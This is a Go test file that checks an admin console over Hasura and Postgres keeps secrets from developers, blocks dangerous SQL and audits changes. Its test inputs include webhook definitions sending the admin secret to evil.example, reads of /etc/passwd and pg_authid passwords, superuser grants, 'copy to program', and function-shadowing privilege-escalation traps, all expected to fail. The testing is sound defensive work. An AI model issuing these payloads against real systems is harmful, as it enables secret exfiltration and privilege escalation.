package console_test

import (
	"bytes"
	"encoding/json"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// secretive are commands by which an owner puts secrets into metadata.
func (p *page) putSecrets(t *testing.T, database string) {
	t.Helper()
	for kind, args := range map[string]string{
		"pg_add_source": `{"name":"other","configuration":{"connection_info":{"database_url":"` + database + `"}}}`,
		"pg_create_insert_permission": `{"table":"note","role":"user","permission":{"check":{},"columns":"*",
			"validate_input":{"type":"http","definition":{"url":"https://u:hunter2@hook.example/x","headers":[{"name":"k","value":"hunter2"},{"name":"e","value_from_env":"HASURA_GRAPHQL_ADMIN_SECRET"}]}}}}`,
	} {
		p.wants(kind, p.metadata(kind, json.RawMessage(args)), 200, "success")
	}
}

// A developer shapes metadata, but sees no secret in it and can send none anywhere.
func TestDeveloper_seesNoSecretsInMetadata(t *testing.T) {
	d := fresh(t)
	d.exec(d.data, `create table note (id int primary key, text text)`)
	p := d.start()
	owner := p.page()
	owner.signInBySecret(adminSecret)
	owner.wants("track", owner.metadata("pg_track_table", object{"table": "note"}), 200, "success")
	owner.putSecrets(t, d.data)
	password := d.data[strings.Index(d.data, "://"):]
	dev := p.as("developer")
	for name, got := range map[string]answer{
		"export":       dev.metadata("export_metadata", object{}),
		"export 2":     dev.send(http.MethodPost, "/v1/metadata", `{"type":"export_metadata","version":2,"args":{}}`),
		"in a bulk":    dev.metadata("bulk", []object{{"type": "export_metadata", "args": object{}}, {"type": "get_inconsistent_metadata", "args": object{}}}),
		"query":        dev.send(http.MethodPost, "/v1/query", `{"type":"export_metadata","args":{}}`),
		"inconsistent": dev.metadata("get_inconsistent_metadata", object{}),
		"reload":       dev.metadata("reload_metadata", object{}),
		"internal":     dev.metadata("dump_internal_state", object{}),
	} {
		if got.status != 200 || strings.Contains(got.raw, "hunter2") || strings.Contains(got.raw, password) {
			t.Errorf("%s: %d %s", name, got.status, got.raw)
		}
	}
	if got := owner.metadata("export_metadata", object{}); !strings.Contains(got.raw, "hunter2") {
		t.Errorf("the admin secret sees them: %s", got.raw)
	}
	export := dev.metadata("export_metadata", object{}).raw
	const hook = `{"table":"note","role":"other","permission":{"check":{},"columns":"*","validate_input":{"type":"http","definition":{"url":"https://evil.example/`
	for name, c := range map[string]struct{ kind, args string }{
		"a source":           {"pg_add_source", `{"name":"mine","configuration":{"connection_info":{"database_url":{"from_env":"HASURA_GRAPHQL_DATABASE_URL"}}}}`},
		"another connection": {"pg_update_source", `{"name":"other","configuration":{"connection_info":{"database_url":"postgres://evil/x"}}}`},
		"no source":          {"pg_drop_source", `{"name":"other"}`},
		"another name":       {"rename_source", `{"name":"other","new_name":"mine"}`},
		"the document":       {"replace_metadata", export},
		"nothing":            {"clear_metadata", `{}`},
		"a variable":         {"pg_create_insert_permission", hook + `{{HASURA_GRAPHQL_ADMIN_SECRET}}"}}}}`},
		"a header":           {"pg_create_insert_permission", hook + `","headers":[{"name":"e","value_from_env":"HASURA_GRAPHQL_ADMIN_SECRET"}]}}}}`},
		"a remote schema":    {"add_remote_schema", `{"name":"r","definition":{"url_from_env":"HASURA_GRAPHQL_ADMIN_SECRET"}}`},
		"in a bulk":          {"bulk", `[{"type":"pg_add_source","args":{"name":"mine","configuration":{"connection_info":{"database_url":"x"}}}}]`},
	} {
		dev.wants(name, dev.metadata(c.kind, json.RawMessage(c.args)), 403, "access-denied")
	}
	dev.wants("a hook of her own", dev.metadata("pg_create_insert_permission", json.RawMessage(hook+`","headers":[{"name":"k","value":"mine"}]}}}}`)), 200, "success")
	dev.wants("a permission", dev.metadata("pg_create_select_permission", json.RawMessage(`{"table":"note","role":"user","permission":{"columns":["id"],"filter":{}}}`)), 200, "success")
	// Nor does anybody write back what stands for a secret.
	owner.wants("by mistake", owner.metadata("replace_metadata", json.RawMessage(export)), 400, "stands where a secret is to be")
	if got := owner.metadata("export_metadata", object{}); !strings.Contains(got.raw, "hunter2") || strings.Contains(got.raw, "evil.example/{{") {
		t.Errorf("afterwards: %s", got.raw)
	}
}

// Where one login is all there is, SQL would reach users and secrets: a developer has none.
func TestDeveloper_hasNoSQLWhereItReachesTooFar(t *testing.T) {
	d := fresh(t)
	d.exec(d.data, `create table note (id int primary key)`)
	p := d.start()
	dev, owner := p.as("developer"), p.as("owner")
	if may := strings.Join(texts(dev.session()["may"]), " "); strings.Contains(may, "sql") {
		t.Errorf("a developer is told of %s", may)
	}
	for name, got := range map[string]answer{
		"run_sql":     dev.send(http.MethodPost, "/v2/query", `{"type":"run_sql","args":{"sql":"select 1"}}`),
		"reading":     dev.send(http.MethodPost, "/v2/query", `{"type":"run_sql","args":{"sql":"select 1","read_only":true}}`),
		"changing":    dev.send(http.MethodPost, "/v2/query", `{"type":"run_sql","args":{"sql":"alter table note add x int","no_transaction":true}}`),
		"a bulk":      dev.send(http.MethodPost, "/v2/query", `{"type":"bulk","args":[{"type":"run_sql","args":{"sql":"drop table note"}}]}`),
		"pg_dump":     dev.send(http.MethodPost, "/v1alpha1/pg_dump", `{"opts":["--schema=identity"]}`),
		"a migration": dev.metadata("gatehouse_migrate", object{"name": "x", "up": "alter table note add y int"}),
		"a rehearsal": dev.metadata("gatehouse_rehearse_metadata", json.RawMessage(`{"commands":[{"type":"pg_track_logical_model","args":{"name":"m","fields":[{"name":"a","type":{"scalar":"text"}}]}},
			{"type":"pg_track_native_query","args":{"root_field_name":"n","code":"select current_user::text as a","returns":"m","arguments":{}}}],"ask":{"query":{"query":"{ n { a } }"}}}`)),
		"native query": dev.metadata("bulk_atomic", json.RawMessage(`[{"type":"pg_track_logical_model","args":{"name":"m","fields":[{"name":"a","type":{"scalar":"text"}}]}},
			{"type":"pg_track_native_query","args":{"root_field_name":"n","code":"select current_user::text as a","returns":"m","arguments":{}}}]`)),
	} {
		dev.wants(name, got, 403, "there is no SQL for this membership of the console here")
	}
	owner.wants("an owner", owner.send(http.MethodPost, "/v2/query", `{"type":"run_sql","args":{"sql":"select 1"}}`), 200, "TuplesOk")
}

// On its own Postgres Gatehouse's logins are apart: a developer has SQL, and it reaches the user's data alone.
func TestDeveloper_sqlOnTheEmbeddedPostgres(t *testing.T) {
	p := startEmbedded(t, dataDir(t))
	owner := p.page()
	owner.wants("set up", owner.send(http.MethodPost, "/console/api/setup", `{"username":"root","password":"`+password+`"}`, "X-Hasura-Admin-Secret", adminSecret), 201, "")
	dev := p.page()
	id := p.user("dev", "")
	owner.wants("a developer", owner.send(http.MethodPut, "/console/api/members/"+id, `{"role":"developer"}`), 204, "")
	dev.signIn("dev", "")
	if may := strings.Join(texts(dev.session()["may"]), " "); !strings.Contains(may, "sql") {
		t.Fatalf("a developer is told of %s\n%s", may, p.out)
	}
	sql := func(text string) answer {
		t.Helper()
		body, _ := json.Marshal(object{"type": "run_sql", "args": object{"sql": text}})
		return dev.send(http.MethodPost, "/v2/query", string(body))
	}
	dev.wants("her own table", sql(`create table note (id int primary key)`), 200, "CommandOk")
	for name, text := range map[string]string{
		"users":                `select * from identity.users`,
		"members":              `insert into identity.console_members values ('x', 'owner')`,
		"metadata":             `select metadata from hdb_catalog.hdb_metadata`,
		"writing metadata":     `update hdb_catalog.hdb_metadata set metadata = '{}'`,
		"another role":         `set role gatehouse_metadata`,
		"the owner":            `set session authorization gatehouse`,
		"a program":            `copy (select 1) to program 'id'`,
		"a file":               `select pg_read_file('/etc/passwd')`,
		"a file by copy":       `create table f (l text); copy f from '/etc/passwd'`,
		"a large object":       `select lo_import('/etc/passwd')`,
		"dblink":               `create extension dblink`,
		"a foreign server":     `create extension postgres_fdw`,
		"a language":           `create extension plpython3u`,
		"passwords":            `select rolpassword from pg_authid`,
		"a superuser":          `alter role current_user superuser`,
		"a role":               `create role r superuser`,
		"settings":             `alter system set archive_command = 'id'`,
		"somebody's statement": `create function f() returns text language sql security definer as 'select query from pg_stat_activity where usename <> current_user and query <> ''<insufficient privilege>'' limit 1'; do $$ begin if f() is null then raise exception 'nothing is shown'; end if; end $$`,
	} {
		dev.wants(name, sql(text), 400, "postgres-error")
	}
	// Functions of hers that fit a call of Gatehouse's better than Postgres' own do not run with Gatehouse's rights.
	dev.wants("traps", sql(`
create table caught (who text);
grant insert on caught to public;
create function jsonb_object_agg(text, text) returns jsonb language plpgsql as $$ begin insert into public.caught values (current_user); return '{}'; end $$;
create function lower(character varying) returns text language plpgsql as $$ begin insert into public.caught values (current_user); return 'x'; end $$`), 200, "CommandOk")
	owner.wants("a change with a log entry", owner.send(http.MethodPost, "/api/applications", `{"name":"other","type":"MachineToMachine"}`), 200, "other")
	owner.wants("metadata", owner.metadata("pg_track_table", object{"table": "note"}), 200, "success")
	dev.wants("nobody was caught", sql(`select count(*) from caught`), 200, `[["count"],["0"]]`)
	dev.wants("pg_dump", dev.send(http.MethodPost, "/v1alpha1/pg_dump", `{"opts":["--schema=identity"]}`), 500, "")
}

// Whatever is changed in the console is on record: who, what, before and after, and no secret.
func TestAudit_ofTheDataHalf(t *testing.T) {
	d := fresh(t)
	d.exec(d.data, `create table note (id int primary key)`)
	p := d.start()
	owner := p.page()
	id := p.user("ann", "owner")
	owner.signIn("ann", "")
	owner.wants("track", owner.metadata("pg_track_table", object{"table": "note"}), 200, "success")
	owner.putSecrets(t, d.data)
	owner.wants("bulk", owner.metadata("bulk", []object{
		{"type": "export_metadata", "args": object{}},
		{"type": "pg_create_select_permission", "args": object{"table": "note", "role": "user", "permission": object{"columns": []string{"id"}, "filter": object{}}}},
		{"type": "run_sql", "args": object{"sql": "alter table note add column \"a\u00e9\" text"}},
	}), 200, "success")
	owner.wants("sql that fails", owner.send(http.MethodPost, "/v2/query", `{"type":"run_sql","args":{"sql":"drop table nothing"}}`), 400, "")
	owner.wants("a refusal", owner.metadata("pg_track_table", object{"table": "nothing"}), 400, "")
	owner.wants("reading", owner.metadata("export_metadata", object{}), 200, "")
	owner.wants("hidden", owner.metadata("pg_set_table_customization", json.RawMessage(`{"table":"note","configuration":{"custom_name":"n","comment":"\u0000"}}`)), 200, "")
	owner.wants("by a secret in a header", p.secretly(http.MethodPost, "/v1/metadata", `{"type":"pg_untrack_table","args":{"table":"note"}}`), 200, "")
	bySecret := p.page()
	bySecret.signInBySecret(adminSecret)
	bySecret.wants("by secret", bySecret.metadata("pg_track_table", object{"table": "note"}), 200, "success")

	changed := owner.send(http.MethodGet, "/api/logs?logKey=Data.Metadata.Changed", "").raw
	for _, part := range []string{
		`"userId": "` + id + `"`, `"commands": ["pg_track_table"]`, `"path": "sources.default.tables.public.note"`, `"commands": ["pg_add_source"]`, `(secret)`,
		`"commands": ["pg_set_table_customization"]`, `"type": "adminSecret"`, `"resourceVersion": {"after": `, `"commands": ["pg_untrack_table"]`,
	} {
		if !strings.Contains(changed, part) && !strings.Contains(changed, strings.ReplaceAll(part, ": ", ":")) {
			t.Errorf("no %s in %s", part, changed)
		}
	}
	statements := owner.send(http.MethodGet, "/api/logs?logKey=Data.SQL.Run", "").raw
	for _, part := range []string{`alter table note add column`, `sources.default.tables.public.note.select_permissions`, `drop table nothing`, `"result":"Error"`} {
		if !strings.Contains(statements, part) {
			t.Errorf("no %s in %s", part, statements)
		}
	}
	if all := changed + statements; strings.Contains(all, "hunter2") || strings.Contains(all, d.data) || strings.Contains(all, "nothing\"}") {
		t.Errorf("too much is on record: %s", all)
	}
}

// Changes by an admin secret in a header, and of rows, are on record: who, which fields, as which role, how many rows; no values.
func TestAudit_ofRowsAndSecrets(t *testing.T) {
	d := fresh(t)
	d.exec(d.data, `create table note (id int primary key, text text); create table other (id int primary key)`)
	p := d.start(`HASURA_GRAPHQL_ADMIN_SECRETS=[{"secret":"deploys","name":"deploy"},{"secret":"narrow","name":"night","scopes":["graphql","sql"]}]`)
	owner := p.page()
	id := p.user("ann", "owner")
	owner.signIn("ann", "")
	byName := func(secret, path, body string, headers ...string) answer {
		t.Helper()
		return p.page().send(http.MethodPost, path, body, append([]string{"X-Hasura-Admin-Secret", secret, "Sec-Fetch-Site", ""}, headers...)...)
	}
	owner.wants("track", byName("deploys", "/v1/metadata", `{"type":"bulk","args":[{"type":"pg_track_table","args":{"table":"note"}},{"type":"pg_track_table","args":{"table":"other"}},
		{"type":"pg_create_insert_permission","args":{"table":"note","role":"user","permission":{"check":{},"columns":["id","text"]}}},
		{"type":"create_query_collection","args":{"name":"c","definition":{"queries":[{"name":"q","query":"mutation Rest { delete_note_by_pk(id: 5) { id } }"}]}}},
		{"type":"create_rest_endpoint","args":{"name":"q","url":"drop","methods":["POST"],"definition":{"query":{"collection_name":"c","query_name":"q"}}}}]}`), 200, "success")
	owner.wants("SQL", byName("narrow", "/v2/query", `{"type":"run_sql","args":{"sql":"create table third (id int)"}}`), 200, "CommandOk")
	owner.wants("a row command", byName("narrow", "/v2/query", `{"type":"insert","args":{"source":"default","table":"note","objects":[{"id":1,"text":"hunter2"},{"id":2}]}}`), 200, `"affected_rows":2`)
	owner.wants("reading rows", byName("narrow", "/v2/query", `{"type":"select","args":{"table":"other","columns":["id"]}}`), 200, `[]`)

	mutate := func(p *page, query string, headers ...string) answer {
		t.Helper()
		body, _ := json.Marshal(object{"query": query})
		return p.send(http.MethodPost, "/v1/graphql", string(body), headers...)
	}
	owner.wants("a mutation", mutate(owner, `mutation Add { __typename a: insert_note(objects: [{id: 3, text: "hunter3"}, {id: 4}, {id: 5}]) { n: affected_rows } insert_other_one(object: {id: 1}) { id } }`), 200, `"insert_other_one":{"id":1}`)
	owner.wants("as somebody", mutate(owner, `mutation { insert_note(objects: {id: 6}) { __typename } }`, "X-Hasura-Role", "user", "X-Hasura-User-Id", "seven"), 200, "note_mutation_response")
	owner.wants("one that fails", mutate(owner, `mutation Fails { insert_note(objects: {id: 6, text: "hunter4"}) { affected_rows } }`), 200, "constraint-violation")
	owner.wants("one that cannot be", mutate(owner, `mutation Cannot { insert_note(objects: {nothing: 6}) { affected_rows } }`), 200, "validation-failed")
	owner.wants("REST", owner.send(http.MethodPost, "/api/rest/drop", ""), 200, `{"delete_note_by_pk":{"id":5}}`)
	token := p.page().memberToken("ann")
	owner.wants("by token", p.bearing(token, http.MethodPost, "/v1/graphql", `{"query":"mutation ByToken { delete_note(where: {id: {_lt: 3}}) { returning { id } } }"}`), 200, "returning")
	owner.wants("a batch", owner.send(http.MethodPost, "/v1/graphql", `[{"query":"mutation Batched { update_note_many(updates: [{where: {}, _set: {text: \"x\"}}]) { affected_rows } }"}]`), 200, "affected_rows")
	if _, answered, err := p.socketBearing(token, "mutation OnSocket { delete_other_by_pk(id: 1) { id } }"); err != nil || !strings.Contains(answered, `"delete_other_by_pk":{"id":1}`) {
		t.Errorf("%s %v", answered, err)
	}
	owner.wants("with a secret in a header", mutate(p.page(), `mutation BySecret { delete_other(where: {}) { affected_rows } }`, "X-Hasura-Admin-Secret", adminSecret), 200, "affected_rows")
	owner.wants("a query", mutate(owner, `query Reads { note { id } }`), 200, "note")

	var rows []struct {
		Payload struct {
			Result, ViewedAs, OperationName, Role string
			Actor                                 struct{ Type, ID string }
			Written                               json.RawMessage
		}
	}
	log := owner.send(http.MethodGet, "/api/logs?logKey=Data.Rows.Changed&page_size=50", "").raw
	if err := json.Unmarshal([]byte(log), &rows); err != nil {
		t.Fatal(log, err)
	}
	var got []string
	for _, r := range rows {
		var written bytes.Buffer
		_ = json.Compact(&written, r.Payload.Written)
		got = append(got, strings.Join([]string{r.Payload.Actor.Type, r.Payload.Actor.ID, r.Payload.ViewedAs, r.Payload.Role, r.Payload.OperationName, r.Payload.Result, written.String()}, "|"))
	}
	slices.Sort(got)
	want := []string{
		`adminSecret|night||admin||Success|[{"table":"note","source":"default","command":"insert","affected":2}]`,
		`user|` + id + `||admin|Add|Success|[{"source":"default","command":"insert_note","affected":3},{"source":"default","command":"insert_other_one","affected":1}]`,
		`user|` + id + `||admin|Batched|Success|[{"source":"default","command":"update_note_many","affected":3}]`,
		`user|` + id + `||admin|ByToken|Success|[{"source":"default","command":"delete_note","affected":2}]`,
		`user|` + id + `||admin|Fails|Error|[{"source":"default","command":"insert_note","affected":null}]`,
		`user|` + id + `||admin|OnSocket|Success|[{"source":"default","command":"delete_other_by_pk","affected":1}]`,
		`user|` + id + `||admin|Rest|Success|[{"source":"default","command":"delete_note_by_pk","affected":1}]`,
		`user|` + id + `|seven|user||Success|[{"source":"default","command":"insert_note","affected":null}]`,
	}
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("on record:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if strings.Contains(log, "hunter") {
		t.Errorf("values are on record: %s", log)
	}
	owner.wants("metadata", owner.send(http.MethodGet, "/api/logs?logKey=Data.Metadata.Changed", ""), 200, `deploy`)
	owner.wants("SQL", owner.send(http.MethodGet, "/api/logs?logKey=Data.SQL.Run", ""), 200, `night`)
}

// What Postgres does not take as JSON keeps no change off the record, and nobody fills the log by what they choose to say.
func TestAudit_isNotGotPast(t *testing.T) {
	d := fresh(t)
	d.exec(d.data, `create table note (id numeric primary key, text text)`)
	p := d.start()
	dev := p.as("developer")
	boss := p.page()
	boss.signInBySecret(adminSecret)
	boss.wants("sign-ins by secret", boss.send(http.MethodGet, "/api/logs?logKey=Console.SignedIn", ""), 200, `"type":"adminSecret"`)
	boss.wants("track", boss.metadata("pg_track_table", object{"table": "note"}), 200, "success")
	for role, filter := range map[string]string{"half": `{"text":{"_eq":"\ud800"}}`, "large": `{"id":{"_eq":1e400000}}`, "null": `{"text":{"_eq":"\u0000"}}`} {
		dev.wants(role, dev.metadata("pg_create_select_permission", json.RawMessage(`{"table":"note","role":"`+role+`","permission":{"columns":["id"],"filter":`+filter+`}}`)), 200, "success")
		boss.wants(role, boss.send(http.MethodGet, "/api/logs?logKey=Data.Metadata.Changed&page_size=1", ""), 200, "select_permissions."+role)
	}
	if strings.Contains(p.out.String(), "not in the audit log") {
		t.Errorf("not on record: %s", p.out)
	}
	var fields strings.Builder
	for i := range 500 {
		fields.WriteString(" a" + strconv.Itoa(i) + `: delete_note(where: {id: {_lt: 0}}) { affected_rows }`)
	}
	body, _ := json.Marshal(object{"query": "mutation " + strings.Repeat("N", 100_000) + " {" + fields.String() + " }"})
	boss.wants("a large mutation", boss.send(http.MethodPost, "/v1/graphql", string(body), "User-Agent", strings.Repeat("U", 100_000)), 200, `"a499":{"affected_rows"`)
	got := boss.send(http.MethodGet, "/api/logs?logKey=Data.Rows.Changed", "")
	if boss.wants("a large mutation", got, 200, `"writtenLeftOut":400`); len(got.raw) > 20_000 {
		t.Errorf("an entry of %d bytes", len(got.raw))
	}
}
